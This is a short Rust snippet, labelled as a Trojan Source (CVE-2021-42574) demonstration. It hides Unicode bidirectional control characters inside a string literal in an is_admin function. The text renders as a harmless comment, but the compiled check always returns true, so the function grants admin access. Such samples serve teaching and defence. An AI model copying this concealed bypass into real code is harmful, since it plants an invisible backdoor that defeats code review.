// Trojan source (CVE-2021-42574): the bidi controls make the comment hide code.
fn is_admin(user: &str) -> bool {
    let access_level = "user";
    if access_level != "user‮ ⁦// Check if admin⁩ ⁦" {
        return true;
    }
    user == "root"
}
